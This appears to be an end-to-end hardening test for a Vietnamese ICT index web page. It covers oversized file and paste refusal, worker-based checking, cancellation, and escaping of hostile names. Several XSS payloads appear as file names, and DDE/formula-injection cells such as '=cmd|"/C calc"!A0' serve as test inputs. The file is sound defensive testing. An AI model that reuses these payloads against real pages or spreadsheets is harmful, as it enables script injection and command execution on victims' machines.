// Big and hostile input on the page (issue #5), in headless Chromium, driven
// as a person would: choose files in the file input, paste into the paste
// dialog and onto the page, click, type, download.
//
//   scripts/build-www && node --test tests/e2e/hardening.test.mjs
//
// - a 50 MB file, a 50 MB paste onto the page and into the paste dialog are
//   refused at once with the limit and a pointer to the CLI, while a
//   heartbeat in the page keeps ticking and the loaded data stays;
// - a 1 MB file is checked in the worker while the page stays usable (a
//   typed search is handled meanwhile), then loaded; a check can be cancelled;
// - a broken file (big: checked in the worker; small: on the page) gives the
//   located message in Vietnamese and in English and keeps the data shown;
// - names holding HTML, script, attribute breakers, `javascript:` URLs, bidi
//   overrides and formulas (tests/e2e/payloads.mjs) are shown as literal text
//   in the table, panel, charts, analysis, data tools, status, errors and
//   share links; nothing runs; the CSV export neutralises formula cells;
// - the page reports no Content-Security-Policy violation (the harness fails
//   any e2e file on one).
//
// Figures go to tests/e2e/out/hardening.json.

import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { root, out, wasmFile, CHROMIUM, cspReport, openBrowser } from './harness.mjs';
import { PAYLOADS, field } from './payloads.mjs';

/** The page's limit (www/load.js LIMIT_BYTES) and how many units one edition may have. */
const LIMIT = 1_000_000;
/**
 * The longest task the page may run while refusing a 50 MB input: parsing on
 * the page's thread costs ~0.5 s per MB here, so a refused input that was read
 * anyway would block for ~25 s. Idle, refusing takes ~25 ms (receiving a
 * 50 MB paste included); the margin is for cores shared with other work.
 */
const REFUSE_MS = 2000;
/** The longest task while the worker checks a 1 MB input (the page's redraw of a search included). */
const BLOCK_MS = 500;

/** A data file of about `bytes` bytes: `units` units per year, as many years as it takes. */
function generate(bytes, units = 700, { badLine = 0 } = {}) {
  const head = 'code,name,year,group,HTKT,HTNL,UD,SXKD,MT\n';
  const parts = [head];
  let size = head.length;
  // Whole editions only: stop at the end of a year once big enough.
  for (let i = 0; size < bytes || i % units !== 0; i += 1) {
    const u = i % units;
    const year = 1000 + Math.floor(i / units);
    const v = (k) => (((u * 7 + k * 13 + year) % 997) / 997).toFixed(4);
    const ud = i + 2 === badLine ? 'abc' : v(3);
    const line = `${u + 1},Unit ${u + 1},${year},G${u % 6},${v(1)},${v(2)},${ud},${v(4)},${v(5)}\n`;
    parts.push(line);
    size += line.length;
  }
  return parts.join('');
}

describe('big and hostile input on the page', () => {
  let server;
  let base;
  let ctx;
  let page;
  let browser;
  let tmp;
  const errors = [];
  const figures = {};
  const rows = () => page.locator('#table tbody tr').count();
  /** Back to a plain view: no search, no error shown, no dialog open. */
  const tidy = async () => {
    await page.evaluate(() => {
      document.getElementById('paste-dialog').close();
      document.getElementById('paste-text').value = '';
      window.__big = null;
    });
    await page.locator('#search').fill('');
    if (await page.locator('#error').isVisible()) await page.locator('#error-close').click();
  };

  /**
   * Starts a heartbeat in the page: a 20 ms timer and requestAnimationFrame,
   * noting the longest gap, and the longest task the page's main thread ran
   * (Long Tasks API). The gap also counts time the machine did not give the
   * browser (shared cores); the longest task is the page's own blocking.
   */
  const startBeat = () => page.evaluate(() => {
    window.gc?.();
    clearInterval(window.__beatTimer);
    window.__beatObserver?.disconnect();
    const b = (window.__beat = { last: performance.now(), maxGap: 0, ticks: 0, frames: 0, longest: 0, tasks: [] });
    window.__beatObserver = new PerformanceObserver((list) => {
      for (const e of list.getEntries()) {
        b.longest = Math.max(b.longest, e.duration);
        b.tasks.push([e.startTime, e.duration]);
      }
    });
    window.__beatObserver.observe({ type: 'longtask' });
    window.__beatTimer = setInterval(() => {
      const now = performance.now();
      b.maxGap = Math.max(b.maxGap, now - b.last);
      b.last = now;
      b.ticks += 1;
    }, 20);
    const frame = () => {
      b.frames += 1;
      if (window.__beat === b) requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
  });
  /** The heartbeat so far: `{maxGap, longest, ticks, frames}` (ms, ms, counts). */
  const beat = () => page.evaluate(async () => {
    await new Promise((ok) => setTimeout(ok, 50));
    const b = window.__beat;
    return { maxGap: Math.round(Math.max(b.maxGap, performance.now() - b.last)), longest: Math.round(b.longest), ticks: b.ticks, frames: b.frames };
  });

  /** Nothing injected ran or was added. */
  const assertClean = async (where) => {
    const found = await page.evaluate(() => ({
      pwned: window.__pwned ?? null,
      handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).map((e) => e.outerHTML.slice(0, 80)),
      scripts: [...document.scripts].filter((s) => !/\/(app|analysis|charts|datatools|__harness\/csp-watch)\.js$|\/pkg\//.test(s.src)).map((s) => s.outerHTML.slice(0, 80)),
      elements: document.querySelectorAll('iframe, object, embed, img:not([src^="blob:"]), details[ontoggle], math, style, link[href^="javascript:"]').length,
      jsLinks: [...document.querySelectorAll('a[href], [href], [src], [action], [formaction]')].filter((e) => /^\s*javascript:/i.test(e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action') ?? e.getAttribute('formaction') ?? '')).length,
      csp: window.__cspViolations ?? [],
    }));
    assert.deepEqual(found, { pwned: null, handlers: [], scripts: [], elements: 0, jsLinks: 0, csp: [] }, where);
  };

  before(async () => {
    assert.ok(existsSync(wasmFile), 'www/pkg is missing: run scripts/build-www first');
    mkdirSync(out, { recursive: true });
    tmp = mkdtempSync(join(tmpdir(), 'ictindex-hard-'));
    browser = await openBrowser('ictindex-e2e-', errors, {
      // gc(): collect the test's own big strings before measuring, so a
      // collection of them is not counted as the page blocking.
      args: [...CHROMIUM.args, '--js-flags=--expose-gc'],
    });
    ({ server, base, ctx, page } = browser);
    await ctx.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base.replace(/\/$/, '') });
    await page.goto(base);
    await page.waitForSelector('body[data-ready]');
  });

  after(async () => {
    if (tmp) rmSync(tmp, { recursive: true, force: true });
    writeFileSync(join(out, 'hardening.json'), `${JSON.stringify(figures, null, 2)}\n`);
    console.log('figures:', JSON.stringify(figures, null, 2));
    await browser?.close();
  });

  it('refuses a 50 MB file at once, says the limit and the CLI, and stays responsive', async () => {
    const path = join(tmp, 'big-50mb.csv');
    writeFileSync(path, generate(50e6));
    assert.equal(await rows(), 63);
    await startBeat();
    const t0 = Date.now();
    await page.locator('#file-data').setInputFiles(path);
    await page.waitForSelector('#error:not([hidden])');
    figures.refuse50MbFileMs = Date.now() - t0;
    assert.equal(await page.locator('#error-title').textContent(), 'Tệp quá lớn cho trang này');
    const message = await page.locator('#error-message').textContent();
    assert.match(message, /^big-50mb\.csv: 50,0 MB, quá giới hạn 1,0 MB của trang\./);
    assert.match(await page.locator('#error-more').textContent(), /ictindex validate TỆP/);
    const b = await beat();
    figures.refuse50MbFile = b;
        assert.ok(b.longest < REFUSE_MS, `the page blocked for ${b.longest} ms`);
    // Another control still answers at once.
    await page.locator('#search').fill('vinh phuc');
    assert.equal(await rows(), 1);
    await page.locator('#search').fill('');
    assert.equal(await rows(), 63);
    assert.match(await page.locator('#data-info').textContent(), /^sample-vn-ict\.csv · 63 đơn vị/);
    await page.locator('#error-close').click();
  });

  it('refuses a 50 MB paste onto the page and into the paste dialog', async () => {
    await tidy();
    // Pasting a copied range straight onto the page (the clipboard is filled first).
    await page.evaluate(() => {
      const line = '99,Unit,2020,G,0.1,0.2,0.3,0.4,0.5\n';
      window.__big = new DataTransfer();
      window.__big.setData('text/plain', `code,name,year,group,HTKT,HTNL,UD,SXKD,MT\n${line.repeat(Math.ceil(50e6 / line.length))}`);
    });
    await startBeat();
    await page.evaluate(() => {
      document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData: window.__big, bubbles: true, cancelable: true }));
      window.__big = null;
    });
    await page.waitForSelector('#error:not([hidden])');
    assert.match(await page.locator('#error-message').textContent(), /^bảng dán: 50,0 MB, quá giới hạn 1,0 MB/);
    assert.equal(await rows(), 63);
    figures.refuse50MbPagePaste = await beat();
    assert.ok(figures.refuse50MbPagePaste.longest < REFUSE_MS, `the page blocked for ${figures.refuse50MbPagePaste.longest} ms`);
    await page.locator('#error-close').click();

    // Into the paste dialog with Ctrl+V (1.2 MB: the browser's own clipboard and
    // text area take seconds per MB): the dialog says so at once, loading refuses.
    await page.evaluate(async () => {
      const line = '98,Unit,2020,G,0.1,0.2,0.3,0.4,0.5\n';
      await navigator.clipboard.writeText(`code,name,year,group,HTKT,HTNL,UD,SXKD,MT\n${line.repeat(Math.ceil(1.2e6 / line.length))}`);
    });
    await page.locator('#open-paste').click();
    await page.locator('#paste-text').focus();
    const t0 = Date.now();
    await page.keyboard.press('Control+V');
    await page.waitForSelector('#paste-size:not([hidden])');
    figures.pasteOverLimitIntoDialogMs = Date.now() - t0;
    assert.match(await page.locator('#paste-size').textContent(), /1,2 MB, quá giới hạn 1,0 MB/);
    await startBeat();
    await page.locator('#paste-load').click();
    figures.refuseOverLimitDialogPaste = await beat();
    assert.ok(figures.refuseOverLimitDialogPaste.longest < REFUSE_MS, `the page blocked for ${figures.refuseOverLimitDialogPaste.longest} ms`);
    assert.ok(await page.locator('#paste-dialog').evaluate((d) => d.open), 'the dialog stays open with its message');
    assert.match(await page.locator('#paste-size').textContent(), /^bảng dán: 1,2 MB, quá giới hạn 1,0 MB/);
    assert.equal(await rows(), 63);
    // Close the dialog with Escape (the browser's own text area lays out
    // 1.2 MB slowly: no clicks into it).
    await page.keyboard.press('Escape');
    assert.equal(await page.locator('#paste-dialog').evaluate((d) => d.open), false);
    assert.deepEqual(errors, []);
  });

  it('checks a 1 MB file in the worker while the page stays usable, then loads it', async () => {
    await tidy();
    const path = join(tmp, 'big-1mb.csv');
    writeFileSync(path, generate(LIMIT - 60_000));
    // The same search with nothing loading: what the page's own redraw costs here.
    await startBeat();
    await page.locator('#search').fill('ha noi');
    await page.locator('#search').fill('');
    const baseline = await beat();
    figures.searchAlone = baseline;
    // A person types a search while the check runs (noted in the page: whether
    // the progress line was shown when the input event came, and the rows left).
    await page.evaluate(() => {
      const box = document.getElementById('loading');
      // Registered after the page's own listener: the table is redrawn by now.
      document.getElementById('search').addEventListener('input', () => {
        window.__searchWhileBusy = { busy: !box.hidden, count: document.querySelectorAll('#table tbody tr').length };
      });
    });
    await startBeat();
    const t0 = Date.now();
    await page.locator('#file-data').setInputFiles(path);
    await page.locator('#search').fill('ha noi');
    await page.waitForFunction(() => /big-1mb\.csv/.test(document.getElementById('status').textContent), null, { timeout: 60_000 });
    figures.load1MbTotalMs = Date.now() - t0;
    // The page marks when the check began, when the worker answered and when
    // the data was loaded; the long tasks between the first two are the
    // page's own work while the worker ran.
    const run = await page.evaluate(async () => {
      await new Promise((ok) => setTimeout(ok, 100));
      const mark = (n) => performance.getEntriesByName(n).at(-1)?.startTime ?? NaN;
      const [check, checked, loaded] = ['ictindex:check', 'ictindex:checked', 'ictindex:loaded'].map(mark);
      const tasks = window.__beat.tasks;
      const within = tasks.filter(([start, d]) => start >= check && start + d <= checked).map(([, d]) => d);
      const apply = tasks.filter(([start, d]) => start <= checked && start + d >= checked).map(([, d]) => d);
      return {
        workerMs: Math.round(checked - check),
        applyMs: Math.round(loaded - checked),
        longestWhileChecking: Math.round(Math.max(0, ...within)),
        applyTaskMs: Math.round(Math.max(0, ...apply)),
        search: window.__searchWhileBusy,
      };
    });
    figures.load1Mb = run;
    assert.ok(run.workerMs > 0, 'the worker checked the file');
    // Nothing but the search's redraw ran on the page's thread meanwhile.
    assert.ok(run.longestWhileChecking < Math.max(BLOCK_MS, baseline.longest * 2), `the page blocked for ${run.longestWhileChecking} ms while the worker ran (search alone: ${baseline.longest} ms)`);
    // The search was handled: while the worker ran (1 row: Hà Nội), or, when
    // the shared cores let the check end first, on the loaded file (0 rows).
    assert.equal(run.search.count, run.search.busy ? 1 : 0, JSON.stringify(run.search));
    await page.locator('#search').fill('');
    assert.equal(await rows(), 700);
    assert.match(await page.locator('#data-info').textContent(), /^big-1mb\.csv · 700 đơn vị/);
    assert.equal(await page.locator('#error').isHidden(), true);
  });

  it('cancels a check in the worker and keeps the data', async () => {
    await tidy();
    await page.locator('#open-sample').click();
    assert.equal(await rows(), 63);
    // The worker is warm now and may finish quickly: the click on Cancel is
    // made the moment the progress line appears.
    await page.evaluate(() => {
      const box = document.getElementById('loading');
      const seen = new MutationObserver(() => {
        if (box.hidden) return;
        seen.disconnect();
        document.getElementById('loading-cancel').click();
      });
      seen.observe(box, { attributes: true, attributeFilter: ['hidden'] });
    });
    await page.locator('#file-data').setInputFiles(join(tmp, 'big-1mb.csv'));
    await page.waitForSelector('#loading', { state: 'hidden' });
    assert.match(await page.locator('#status').textContent(), /^Đã hủy tải big-1mb\.csv; dữ liệu đang hiển thị vẫn giữ nguyên\./);
    await page.waitForTimeout(3000);
    assert.equal(await rows(), 63);
    assert.match(await page.locator('#data-info').textContent(), /^sample-vn-ict\.csv/);
  });

  it('a later load replaces a check still running', async () => {
    await tidy();
    await page.locator('#open-sample').click();
    // The moment the progress line appears, a small table is pasted onto the page.
    await page.evaluate(() => {
      const box = document.getElementById('loading');
      const seen = new MutationObserver(() => {
        if (box.hidden) return;
        seen.disconnect();
        const data = new DataTransfer();
        data.setData('text/plain', 'code\tname\tyear\tgroup\tHTKT\tHTNL\tUD\tSXKD\tMT\n01\tA\t2020\tG\t0,1\t0,2\t0,3\t0,4\t0,5\n02\tB\t2020\tG\t0,5\t0,4\t0,3\t0,2\t0,1\n03\tC\t2020\tG\t0,3\t0,3\t0,3\t0,3\t0,3');
        document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
      });
      seen.observe(box, { attributes: true, attributeFilter: ['hidden'] });
    });
    await page.locator('#file-data').setInputFiles(join(tmp, 'big-1mb.csv'));
    await page.waitForFunction(() => document.querySelectorAll('#table tbody tr').length === 3);
    assert.equal(await page.locator('#loading').isHidden(), true);
    await page.waitForTimeout(3000);
    assert.equal(await rows(), 3);
    assert.equal(await page.locator('#loading').isHidden(), true);
    assert.match(await page.locator('#status').textContent(), /^Đã tải bảng dán\./);
    await page.locator('#open-sample').click();
  });

  it('a broken file, big or small, gives the located message in Vietnamese and English and keeps the data', async () => {
    await tidy();
    if ((await rows()) !== 63) await page.locator('#open-sample').click();
    const bigBad = generate(600_000, 63, { badLine: 9001 });
    const smallBad = 'code,name,year,HTKT,HTNL,UD,SXKD,MT\n01,Hà Nội,2016,0.7,0.7,0.5,0.8,0.5\n02,Hà Giang,2016,0.2,0.3,abc,0.1,0.4\n';
    const cases = [
      ['vi', 'big-bad.csv', bigBad, /^big-bad\.csv, dòng 9001, cột 7 \(UD\)/, 'Không tải được'],
      ['vi', 'small-bad.csv', smallBad, /^small-bad\.csv, dòng 3, cột 6 \(UD\)/, 'Không tải được'],
      ['en', 'big-bad.csv', bigBad, /^big-bad\.csv, line 9001, column 7 \(UD\)/, 'Could not load'],
      ['en', 'small-bad.csv', smallBad, /^small-bad\.csv, line 3, column 6 \(UD\)/, 'Could not load'],
    ];
    for (const [lang, name, text, located, title] of cases) {
      if ((await page.locator('html').getAttribute('lang')) !== lang) await page.locator('#lang').click();
      await page.locator('#file-data').setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(text) });
      await page.waitForSelector('#error:not([hidden])', { timeout: 60_000 });
      assert.equal(await page.locator('#error-title').textContent(), title, name);
      assert.match(await page.locator('#error-message').textContent(), located, `${lang} ${name}`);
      assert.equal(await rows(), 63);
      assert.match(await page.locator('#data-info').textContent(), /^sample-vn-ict\.csv · 63/);
      await page.locator('#error-close').click();
    }
    await page.locator('#lang').click();
    assert.equal(await page.locator('html').getAttribute('lang'), 'vi');
    assert.deepEqual(errors, []);
  });

  it('shows names holding HTML, script, URLs, overrides and formulas as text everywhere; nothing runs', async () => {
    await tidy();
    // Data: a payload as unit name (and as code for the first three), group and file name;
    // framework: payloads as node names in both languages.
    const data = ['code,name,year,group,HTKT,HTNL,UD,SXKD,MT'];
    PAYLOADS.forEach((p, i) => {
      for (const year of [2019, 2020]) {
        const vals = [1, 2, 3, 4, 5].map((k) => (((i * 7 + k * 3 + year) % 10) / 10).toFixed(2));
        data.push([field(i < 3 ? p : String(i + 1)), field(p), year, field(PAYLOADS[(i + 5) % PAYLOADS.length]), ...vals].join(','));
      }
    });
    const framework = readFileSync(join(root, 'data', 'framework-vn-ict.csv'), 'utf8').trim().split('\n').map((line, i) => {
      if (i === 0) return line;
      const cells = line.split(',');
      cells[7] = field(PAYLOADS[i]);
      cells[8] = field(PAYLOADS[i + 6]);
      return cells.join(',');
    }).join('\n');
    const fileName = '<img src=x onerror=window.__pwned=99>"\'.csv';
    await page.locator('#file-data').setInputFiles([
      { name: fileName, mimeType: 'text/csv', buffer: Buffer.from(data.join('\n')) },
      { name: '<script>window.__pwned=98</script>.csv', mimeType: 'text/csv', buffer: Buffer.from(framework) },
    ]);
    await page.waitForFunction((n) => document.querySelectorAll('#table tbody tr').length === n, PAYLOADS.length);
    await page.waitForTimeout(300);
    await assertClean('after loading');

    // Table: names and groups as literal text (the core trims surrounding spaces and tabs).
    const names = await page.locator('#table tbody .c-name button').allTextContents();
    for (const p of PAYLOADS) assert.ok(names.includes(p.trim()), `table lacks ${JSON.stringify(p)}`);
    const groups = await page.locator('#region option').allTextContents();
    for (const p of PAYLOADS) assert.ok(groups.includes(p.trim()), `region list lacks ${JSON.stringify(p)}`);
    const heads = await page.locator('#table thead').evaluate((h) => [...h.querySelectorAll('th')].map((th) => th.title));
    assert.ok(heads.includes(PAYLOADS[2]), 'node name as a column title');
    assert.match(await page.locator('#data-info').textContent(), /^<img src=x onerror=window\.__pwned=99>"'\.csv · 24 đơn vị/);
    assert.equal(await page.locator('#data-info bdi').first().textContent(), fileName);
    assert.equal(await page.locator('#sliders .slider-name').first().textContent(), `HTKT · ${PAYLOADS[2]}`);

    // Panel: select each hostile code; the sentence quotes the names as text, isolated.
    for (const p of PAYLOADS.slice(0, 3)) {
      await page.locator('#table tbody .c-name button', { hasText: p }).first().click();
      await page.waitForSelector('#panel:not([hidden])');
      assert.equal(await page.locator('#panel-title').textContent(), p);
      const sentence = await page.locator('#panel-sentence').textContent();
      assert.ok(sentence.startsWith(`Năm 2020, ${p} xếp thứ`), sentence);
      assert.ok((await page.locator('#panel-sentence bdi').allTextContents()).includes(p));
      await assertClean(`panel of ${p}`);
    }
    const rtl = PAYLOADS.find((p) => p.includes('\u202E'));
    await page.locator('#table tbody .c-name button', { hasText: 'RTL' }).click();
    assert.equal(await page.locator('#panel-title').textContent(), rtl);
    assert.ok((await page.locator('#panel-sentence bdi').allTextContents()).includes(rtl), 'the override is isolated');

    // Charts: SVG text and tooltips carry the names as text.
    const charts = await page.locator('#charts').textContent();
    assert.ok(charts.includes(rtl) || charts.includes('RTL'), 'the profile chart names the unit');
    const svgText = await page.locator('#charts svg').evaluateAll((svgs) => svgs.map((s) => s.textContent).join('\n'));
    assert.ok(svgText.includes(PAYLOADS[2]), 'a node name in the charts, as text');
    await assertClean('charts');

    // Analysis and data tools drawn on the same data.
    await page.locator('#analysis').scrollIntoViewIfNeeded();
    await page.waitForTimeout(500);
    await assertClean('analysis');

    // Share link: the file name travels encoded and comes back as text.
    await page.locator('#share').click();
    await page.waitForFunction(() => location.hash.includes('data='));
    const hash = await page.evaluate(() => location.hash);
    assert.ok(!/[<>" ]/.test(hash), hash);
    await page.goto('about:blank');
    await page.goto(`${base}${hash}`);
    await page.waitForSelector('body[data-ready]');
    assert.match(await page.locator('#status').textContent(), /<img src=x onerror=window\.__pwned=99>"'\.csv/);
    await assertClean('share link opened');
    assert.deepEqual(errors, []);
  });

  it('exports CSV safe for Excel: formula-like names neutralised, markup quoted as text', async () => {
    await tidy();
    const data = ['code,name,year,group,HTKT,HTNL,UD,SXKD,MT'];
    PAYLOADS.forEach((p, i) => data.push([String(i + 1), field(p), 2020, field(i % 2 ? '=cmd|"/C calc"!A0' : '@SUM(A1:A2)'), 0.1, 0.2, 0.3, 0.4, (i / 30).toFixed(3)].join(',')));
    await page.locator('#file-data').setInputFiles({ name: 'payloads.csv', mimeType: 'text/csv', buffer: Buffer.from(data.join('\n')) });
    await page.waitForFunction((n) => document.querySelectorAll('#table tbody tr').length === n, PAYLOADS.length);
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#export').click()]);
    const bytes = readFileSync(await download.path());
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
    const text = bytes.toString('utf8').slice(1);
    // Every text cell that a spreadsheet would take for a formula starts with '.
    const cells = [];
    for (const line of text.trim().split('\n').slice(1)) {
      for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
        const raw = m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1];
        if (m[0] !== '') cells.push(raw);
      }
    }
    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?(e-?\d+)?$/i.test(c));
    assert.deepEqual(risky, [], 'cells a spreadsheet would run');
    assert.ok(text.includes(`"'=HYPERLINK(""http://example.invalid/?a=""&A1,""click"")"`), 'HYPERLINK neutralised');
    assert.ok(text.includes(`'@SUM(1+1)*cmd|' /C calc'!A0`), '@SUM neutralised');
    assert.ok(text.includes(`,'@SUM(A1:A2),`), 'group neutralised');
    assert.ok(text.includes(`"'=cmd|""/C calc""!A0"`), 'DDE group neutralised');
    assert.ok(text.includes(`"<img src=x onerror=""window.__pwned=1"">"`), 'markup kept as quoted text');
    figures.payloads = PAYLOADS.length;
    await assertClean('export');
  });

  it('the data tools show COINr names holding markup as text', { skip: !existsSync(resolve(root, '../shared/reference/coinr-asem')) }, async () => {
    const ref = resolve(root, '../shared/reference/coinr-asem');
    const idata = readFileSync(join(ref, 'coinr_asem_idata.csv'), 'utf8').trim().split('\n');
    const hostile = PAYLOADS;
    const edited = [idata[0], ...idata.slice(1).map((line, i) => (i < hostile.length ? `${field(hostile[i])}${line.slice(line.indexOf(','))}` : line))];
    await page.locator('#dt-coinr > summary').click();
    await page.locator('#dt-idata').setInputFiles({ name: '<svg onload=window.__pwned=97>.csv', mimeType: 'text/csv', buffer: Buffer.from(edited.join('\n')) });
    await page.locator('#dt-imeta').setInputFiles(join(ref, 'coinr_asem_imeta.csv'));
    await page.locator('#dt-run').click();
    await page.waitForFunction(() => document.querySelectorAll('#table tbody tr').length === 51, null, { timeout: 60_000 });
    const names = await page.locator('#table tbody .c-name button').allTextContents();
    for (const p of hostile) assert.ok(names.includes(p.trim()), `table lacks ${JSON.stringify(p)}`);
    await assertClean('data tools');
  });

  it('the data tools\' prepared-data export neutralises formula cells', {
    skip: !existsSync(resolve(root, '../shared/reference/coinr-asem')),
  }, async () => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#dt-export').click()]);
    const text = readFileSync(await download.path(), 'utf8');
    const risky = text.split('\n').slice(1).filter((line) => /(^|,)"?[=+@]/.test(line));
    assert.deepEqual(risky, [], 'cells a spreadsheet would run');
  });

  it('reports no Content-Security-Policy violation', async () => {
    await page.waitForTimeout(300);
    assert.deepEqual(await page.evaluate(() => window.__cspViolations), []);
    assert.equal(cspReport(server), '');
    assert.deepEqual(errors, []);
  });
});
